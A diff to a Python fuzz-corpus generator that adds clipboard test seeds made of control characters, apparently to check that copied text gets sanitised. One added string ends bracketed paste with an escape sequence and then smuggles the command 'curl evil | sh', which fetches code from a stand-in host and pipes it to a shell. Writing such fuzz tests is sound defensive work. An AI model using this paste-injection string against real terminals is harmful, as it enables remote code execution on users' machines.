@@ -37,6 +37,8 @@ TEXT, BYTES = 0, 4
 CAP1, CAP64K, CAP1M, CAP16M = 0, 1, 2, 3
 H = vec["hello_reply"]
 a = b"a" * 32768
+CONTROLS = ("harmless\x1b[201~; curl evil | sh\n\u009b31m\u202etxt\u2066\u2069\x07\x00\t\r"
+            "\u200e\u200d\x7f").encode()
 seeds = {
     "small_text": (CAP64K | TEXT, 63, H + get_reply(2, 5, b"hello")),
     "small_bytewise": (CAP64K | TEXT, 0, H + get_reply(2, 5, b"hello")),
@@ -60,6 +62,10 @@ seeds = {
                      + get_reply(2, 5, b"hello")),
     "guest_request_first": (CAP64K | TEXT, 63, H + vec["clipboard_set_request"] + get_reply(2, 5, b"hello")),
     "error_vector": (CAP64K | TEXT, 63, H + vec["error_reply"]),
+    # Text with what a copy removes (docs/clipboard.md, Control characters).
+    "controls": (CAP64K | TEXT, 63, H + get_reply(2, len(CONTROLS), CONTROLS)),
+    "controls_only": (CAP64K | TEXT, 63, H + get_reply(2, 6, b"\x1b\x07\xc2\x9b\x00\x7f")),
+    "controls_bytes": (CAP64K | BYTES, 63, H + get_reply(2, len(CONTROLS), CONTROLS)),
 }
 out = os.path.join(root, "tests", "fuzz", "corpus", "ctl_clip")
 os.makedirs(out, exist_ok=True)
